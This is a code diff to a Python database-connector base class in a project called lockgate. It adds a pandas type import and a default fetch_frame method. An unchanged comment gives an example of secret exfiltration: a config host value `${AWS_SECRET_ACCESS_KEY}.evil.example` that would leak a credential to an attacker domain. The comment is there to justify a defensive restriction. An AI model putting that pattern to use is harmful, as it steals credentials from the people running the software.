@@ -5,13 +5,16 @@ from __future__ import annotations
 import os
 import re
 from abc import ABC, abstractmethod
-from typing import Any, Self
+from typing import TYPE_CHECKING, Any, Self
 
 import ibis
 import ibis.expr.datatypes as dt
 from sqlglot import exp
 
 from lockgate.errors import LockgateError
+
+if TYPE_CHECKING:
+    import pandas as pd
 
 _ENV = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
 # A contract is untrusted: `host: ${AWS_SECRET_ACCESS_KEY}.evil.example` would send any variable
@@ -150,6 +153,10 @@ class Connector(ABC):
         (`LOCKGATE_STATEMENT_TIMEOUT`); connectors whose database has no timeout of its own
         override it."""
         return self.fetch_value(sql)
+
+    def fetch_frame(self, table: str) -> pd.DataFrame:
+        """The whole table as a pandas DataFrame (for the frame engine)."""
+        raise LockgateError(f"a {type(self).__name__} cannot read tables into DataFrames")
 
     def fetch_value(self, sql: str) -> Any:
         names, rows = self.fetch(sql)
